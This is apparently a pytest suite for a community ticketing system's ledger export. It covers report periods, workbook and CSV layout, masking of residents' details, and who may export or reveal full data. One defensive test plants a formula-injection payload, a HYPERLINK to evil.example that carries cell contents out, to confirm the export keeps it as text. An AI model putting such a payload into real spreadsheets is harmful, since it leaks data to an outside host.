"""Exports of a community or a street over a period: the periods, the workbook, the CSV
file, the small-sample rule, the full version's reveals, and who may export what."""
from __future__ import annotations

import io
from collections.abc import Iterator
from datetime import date, datetime
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from tests.area_export_helpers import (
    CA_TICKETS,
    FIRST,
    LAST,
    PHONE,
    compiled_days,
    csv_rows,
    sheet_rows,
    workbook,
)
from tests.conftest import IsolatedClient, csrf_token, login, wipe
from tests.factories import TZ, World, build_world
from ticketing.extensions import db
from ticketing.models import Ledger, RevealLog, Ticket
from ticketing.services import area_export, area_files, ledger_report, refcache
from ticketing.services.area_export import ExportArea
from ticketing.services.errors import InvalidInput
from ticketing.services.ledger_report import Period
from ticketing.services.photos import PhotoStore

PRINTED = datetime(2026, 11, 20, 2, 5, tzinfo=TZ)
RANGE = Period("range", FIRST, LAST)
Shared = tuple[World, dict[str, Ticket]]


@pytest.fixture()
def days(world: World, store: PhotoStore) -> dict[str, Ticket]:
    return compiled_days(world, store)


@pytest.fixture(scope="class")
def shared(app: Flask) -> Iterator[Shared]:
    """The compiled days, made once for a class of tests that only read them."""
    refcache.clear()
    app.test_client_class = IsolatedClient
    with app.app_context():
        world = build_world()
        yield world, compiled_days(world, PhotoStore(app.config["UPLOAD_FOLDER"]))
        db.session.remove()
        wipe(app)


def area(kind: str = "community", code: str = "CA") -> ExportArea:
    found = area_export.find_area(kind, code)
    assert found is not None
    return found


def export(of: ExportArea, span: Period = RANGE, fmt: str = "xlsx", full: bool = False) -> bytes:
    out = io.BytesIO()
    area_files.write(of, span, fmt, out, PRINTED, TZ, full)
    return out.getvalue()


def signed_in(app: Flask, person: Any) -> FlaskClient:
    client = app.test_client()
    login(client, person)
    return client


# --- the periods --------------------------------------------------------------------


def test_a_day_a_week_and_a_month_are_those_holding_the_day() -> None:
    wednesday = date(2026, 11, 18)
    assert area_export.export_period("day", wednesday) == Period("day", wednesday, wednesday)
    assert area_export.export_period("week", wednesday) == Period("week", date(2026, 11, 16), date(2026, 11, 22))
    assert area_export.export_period("month", wednesday) == Period("month", date(2026, 11, 1), date(2026, 11, 30))


def test_a_range_takes_both_ends_and_at_most_a_year_of_days() -> None:
    assert area_export.export_period("range", first=FIRST, last=FIRST).days == 1
    leap_year = area_export.export_period("range", first=date(2028, 1, 1), last=date(2028, 12, 31))
    assert leap_year.days == area_export.MAX_DAYS == 366
    with pytest.raises(InvalidInput) as too_long:
        area_export.export_period("range", first=date(2026, 1, 1), last=date(2027, 1, 2))
    assert too_long.value.field == "to"


@pytest.mark.parametrize(("kind", "first", "last", "field"), [
    ("range", LAST, FIRST, "from"),  # the first day after the last
    ("range", None, LAST, "from"),
    ("range", FIRST, None, "to"),
    ("year", FIRST, LAST, "period"),
])
def test_a_wrong_range_is_refused_with_the_field_to_fix(kind: str, first: date | None, last: date | None,
                                                       field: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        area_export.export_period(kind, FIRST, first, last)
    assert refused.value.field == field


def test_a_day_that_is_not_a_date_is_refused(app: Flask) -> None:
    assert area_export.parse_day(" 2026-11-18 ", "from") == date(2026, 11, 18)
    assert area_export.parse_day("", "from") is None
    with app.app_context():
        for bad in ("2026-13-01", "18.11.2026", "yesterday"):
            with pytest.raises(InvalidInput) as refused:
                area_export.parse_day(bad, "to")
            assert refused.value.field == "to" and bad in str(refused.value.message)


# --- the files, read only -----------------------------------------------------------


class TestTheFiles:
    """One world for the checks that only read the files."""

    def test_the_workbook_has_a_summary_a_sheet_of_grids_and_the_lines_each_under_a_title(
            self, shared: Shared) -> None:
        book = workbook(export(area()))
        assert book.sheetnames == ["汇总", "分网格", "明细"]
        for sheet in book.worksheets:
            title = sheet["A1"].value
            assert title.startswith("东怡社区 台账 2026-11-17 至 2026-11-19")
            assert "打印时间 2026-11-20 02:05" in title and "个人信息已脱敏" in title

    def test_every_sheet_prints_on_a4_landscape_fitted_to_the_width_with_its_headers_on_each_page(
            self, shared: Shared) -> None:
        for sheet in workbook(export(area())).worksheets:
            setup = sheet.page_setup
            assert (setup.orientation, int(setup.paperSize)) == ("landscape", 9)  # 9: A4
            assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)
            assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
            assert sheet.print_title_rows == "$2:$2"  # the column headers
            assert sheet.freeze_panes == "A3"
            assert sheet.print_options.gridLines is True
            assert sheet.oddHeader.center.text == "东怡社区 台账 2026-11-17 至 2026-11-19"
            assert "&P" in sheet.oddFooter.right.text and "&N" in sheet.oddFooter.right.text

    def test_the_summary_is_the_roll_up_of_the_areas_ledgers(self, shared: Shared) -> None:
        world, _tickets = shared
        rows = {row[0]: row[1:] for row in sheet_rows(workbook(export(area()))["汇总"])[2:]}
        figures = ledger_report.rollup(Ledger.community_id == world.community_a.id, RANGE)
        assert figures.counts["new"] == 9  # A1: t1, t7 on the 17th, t2, t3, t8 on the 18th, t4 on the 19th; A2: u1-u3
        for label, name in (("新受理", "new"), ("已办结", "resolved"), ("已完结", "closed"),
                            ("期末未办结", "open_at_end"), ("期末超时", "overdue_at_end"), ("应回访", "callback_due")):
            assert rows[label][0] == figures.counts[name], label
        assert rows["已编制台账的天数"][0] == 3 and rows["涉及工单"][0] == len(CA_TICKETS)
        assert rows["期末未办结"][1] == "截至 2026-11-19 日终"
        # Six acceptances due (t1, t2, u1-u3 on the 18th, t8 on the 19th): fewer than MIN_TICKETS, no rate.
        response = figures.rates["response"]
        assert (response.num, response.den) == (3, 6) and not ledger_report.enough(response.den)
        assert rows["响应率"] == ("样本不足", f"应响应 6 件，少于 {ledger_report.MIN_TICKETS} 件不计算比率")
        assert figures.accept_mean_s is not None
        assert rows["平均响应时长（小时）"][0] == round(figures.accept_mean_s / 3600, 2)

    def test_each_grid_has_its_figures_and_the_grids_add_up_to_the_summary(self, shared: Shared) -> None:
        world, _tickets = shared
        rows = sheet_rows(workbook(export(area()))["分网格"])
        assert list(rows[1][:8]) == ["社区", "网格", "网格编号", "新受理", "已办结", "已完结", "期末未办结", "期末超时"]
        by_code = {row[2]: row for row in rows[2:-1]}
        assert list(by_code) == ["CA-01", "CA-02"]
        # Filed; resolved (t5 on the 17th, t1 and t5 again on the 18th); closed; open and overdue at the 19th's end.
        assert by_code["CA-01"][3:8] == (6, 3, 2, 6, 1)
        total = rows[-1]
        figures = ledger_report.rollup(Ledger.community_id == world.community_a.id, RANGE)
        assert total[0] == "合计"
        assert total[3:8] == tuple(figures.counts[name] for name in
                                   ("new", "resolved", "closed", "open_at_end", "overdue_at_end"))

    def test_each_ticket_has_one_line_as_it_stood_at_the_end_of_its_last_day_in_the_period(
            self, shared: Shared) -> None:
        _world, tickets = shared
        rows = sheet_rows(workbook(export(area()))["明细"])
        assert list(rows[1]) == list(area_files.LINE_HEADERS)
        lines = {row[0]: dict(zip(area_files.LINE_HEADERS, row, strict=True)) for row in rows[2:]}
        assert sorted(lines) == sorted(tickets[name].number for name in CA_TICKETS)
        t8 = lines[tickets["t8"].number]  # dispatched on the 18th, accepted on the 19th
        assert (t8["状态"], t8["状态截至"], t8["网格"], t8["社区"]) == ("办理中", datetime(2026, 11, 19), "第一网格", "东怡社区")
        t1 = lines[tickets["t1"].number]  # filed on the 17th, closed on the 18th
        assert (t1["状态"], t1["状态截至"], t1["满意度"]) == ("已完结", datetime(2026, 11, 18), "满意")
        assert t1["受理时间"] == datetime(2026, 11, 17, 23, 59)  # Shanghai time, a real date
        assert (t1["诉求人"], t1["联系电话"], t1["地点"]) == ("张**", "138****5678", "槐树院 1号楼 ***")
        assert lines[tickets["t7"].number]["状态截至"] == datetime(2026, 11, 17)
        numbers = [row[0] for row in rows[2:]]
        assert numbers == sorted(numbers, key=lambda n: (lines[n]["网格"] != "第一网格", n))  # by grid, then number

    def test_a_day_has_the_lines_of_that_day_only(self, shared: Shared) -> None:
        _world, tickets = shared
        rows = sheet_rows(workbook(export(area(), Period("day", LAST, LAST)))["明细"])[2:]
        assert {row[0]: row[11] for row in rows} == {tickets["t4"].number: "待派单", tickets["t8"].number: "办理中"}

    def test_the_lines_go_on_to_another_sheet_when_one_is_full(
            self, shared: Shared, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(area_files, "SHEET_ROWS", 6)  # a title, the headers and four lines
        book = workbook(export(area()))
        assert book.sheetnames == ["汇总", "分网格", "明细", "明细2", "明细3"]
        assert [len(sheet_rows(book[name])) - 2 for name in book.sheetnames[2:]] == [4, 4, 2]
        assert all(book[name].print_title_rows == "$2:$2" for name in book.sheetnames[2:])

    def test_an_area_without_tickets_has_its_grids_and_no_lines(self, shared: Shared) -> None:
        book = workbook(export(area("community", "CB")))
        assert [row[:3] for row in sheet_rows(book["分网格"])[2:]] == [("西岭社区", "第一网格", "CB-01"),
                                                                    ("合计", None, None)]
        assert sheet_rows(book["明细"])[1:] == [tuple(area_files.LINE_HEADERS)]

    def test_the_csv_file_is_the_lines_under_the_same_headers_masked(self, shared: Shared) -> None:
        _world, tickets = shared
        content = export(area("street", "ST01"), fmt="csv")
        rows = csv_rows(content)
        assert rows[0] == list(area_files.LINE_HEADERS) and len(rows) == 1 + len(CA_TICKETS)
        t8 = next(row for row in rows if row[0] == tickets["t8"].number)
        assert (t8[5], t8[6], t8[-1]) == ("张**", "138****5678", "2026-11-19")
        assert t8[4] == "2026-11-18 10:00"
        assert PHONE not in content.decode("utf-8-sig")

    def test_a_community_supervisor_may_export_neither_another_community_nor_the_street(
            self, app: Flask, shared: Shared) -> None:
        world, _tickets = shared
        sam, sue = world.sam, world.sue  # CA's supervisor; the street's
        street = area("street", "ST01")
        assert area_export.may_export(sam, area()) and not area_export.may_export(sam, area("community", "CB"))
        assert not area_export.may_export(sam, street)
        assert area_export.may_export(sue, street) and area_export.may_export(sue, area("community", "CB"))
        assert not area_export.may_export(world.gina, area())  # a grid worker reads only her grid
        client = signed_in(app, sam)
        for key in ("community:CB", "street:ST01"):
            assert client.get(f"/ledger/export?area={key}&day=2026-11-18").status_code == 404

    def test_the_masked_file_is_anyones_who_reads_the_area_and_logs_nothing(self, app: Flask, shared: Shared) -> None:
        client = signed_in(app, "dora")  # a dispatcher of community CA
        response = client.get("/ledger/export?area=community:CA&period=week&day=2026-11-18&format=xlsx")
        assert response.status_code == 200 and response.headers["Cache-Control"] == "private, no-cache"
        assert response.headers["Content-Disposition"] == "attachment; filename=ledger-CA-2026-11-16-2026-11-22.xlsx"
        assert workbook(response.data)["明细"]["A1"].value.startswith("东怡社区 台账 2026-11-16 至 2026-11-22（周）")
        assert db.session.scalars(select(RevealLog)).all() == []

    def test_only_supervisors_and_admins_have_the_full_file(self, app: Flask, shared: Shared) -> None:
        client = signed_in(app, "dora")
        refused = client.post("/ledger/export", data={"csrf_token": csrf_token(client, "/ledger/"), "area": "all",
                                                      "period": "day", "day": "2026-11-18", "full": "1"})
        assert refused.status_code == 403
        assert db.session.scalars(select(RevealLog)).all() == []

    def test_the_dashboard_offers_the_form_for_its_area(self, app: Flask, shared: Shared) -> None:
        page = signed_in(app, "sue").get("/ledger/?area=community:CB&day=2026-11-18").get_data(as_text=True)
        assert 'id="export"' in page and 'name="area" value="community:CB"' in page
        assert 'name="full" value="1"' in page  # a supervisor may have the full file
        assert 'name="full" value="1"' not in signed_in(app, "dora").get("/ledger/").get_data(as_text=True)
        assert 'id="export"' not in signed_in(app, "gina").get("/ledger/").get_data(as_text=True)

    def test_a_wrong_range_on_the_page_goes_back_to_the_form_with_the_reason(
            self, app: Flask, shared: Shared) -> None:
        client = signed_in(app, "sam")
        client.get("/lang/en")
        response = client.post("/ledger/export", data={
            "csrf_token": csrf_token(client, "/ledger/"), "area": "all", "period": "range",
            "from": "2026-11-19", "to": "2026-11-17"})
        assert response.status_code == 302 and response.headers["Location"].endswith("#export")
        page = client.get(response.headers["Location"]).get_data(as_text=True)
        assert "The first day (2026-11-19) is after the last (2026-11-17)." in page
        nothing = client.get("/ledger/export?area=all&period=month&day=2025-01-15")
        assert nothing.status_code == 302
        assert "No ledger has been compiled for this period." in client.get(nothing.headers["Location"]).get_data(
            as_text=True)


# --- changes to the world -----------------------------------------------------------


def test_a_grid_with_fewer_tickets_than_the_minimum_has_no_rate_but_its_n(
        world: World, days: dict[str, Ticket]) -> None:
    # A2's 18th made busier: twelve acceptances due, nine in time.
    busy = db.session.scalar(select(Ledger).where(Ledger.grid_id == world.grid_a2.id, Ledger.day == date(2026, 11, 18)))
    assert busy is not None
    busy.response_num, busy.response_den = 9, 12
    db.session.commit()
    sheet = workbook(export(area()))["分网格"]
    headers = [cell.value for cell in sheet[2]]
    rate, n = headers.index("响应率"), headers.index("应响应件数")
    a1, a2 = sheet[3], sheet[4]
    assert (a1[rate].value, a1[n].value) == ("样本不足", 3)  # t1, t2, t8
    assert (a2[rate].value, a2[n].value, a2[rate].number_format) == (0.75, 12, "0.0%")
    satisfaction = headers.index("满意率")
    assert (a1[satisfaction].value, a2[satisfaction].value) == ("样本不足", "—")  # A2: nobody rated


def test_a_residents_formula_stays_text(world: World, days: dict[str, Ticket]) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
    days["t4"].description = hostile
    db.session.commit()
    [cell] = [row[8] for row in workbook(export(area()))["明细"].iter_rows(min_row=3)
              if row[0].value == days["t4"].number]
    assert (cell.value, cell.data_type) == (hostile, "s")
    [text] = [row[8] for row in csv_rows(export(area(), fmt="csv")) if row[0] == days["t4"].number]
    assert text == "'" + hostile


def test_the_full_file_names_the_requesters_and_logs_a_reveal_per_ticket(
        client: FlaskClient, world: World, days: dict[str, Ticket]) -> None:
    login(client, world.sam)
    response = client.post("/ledger/export", data={
        "csrf_token": csrf_token(client, "/ledger/"), "area": "all", "period": "range", "from": "2026-11-17",
        "to": "2026-11-19", "format": "csv", "full": "1"})
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == "attachment; filename=ledger-CA-2026-11-17-2026-11-19-full.csv"
    rows = csv_rows(response.data)
    t1 = next(row for row in rows if row[0] == days["t1"].number)
    assert (t1[5], t1[6], t1[7]) == ("张三丰", PHONE, "槐树院 1号楼 2单元301")
    logged = db.session.scalars(select(RevealLog)).all()
    assert sorted(r.ticket_id for r in logged) == sorted(days[name].id for name in CA_TICKETS)
    assert {(r.user_id, r.purpose) for r in logged} == {(world.sam.id, "export")}
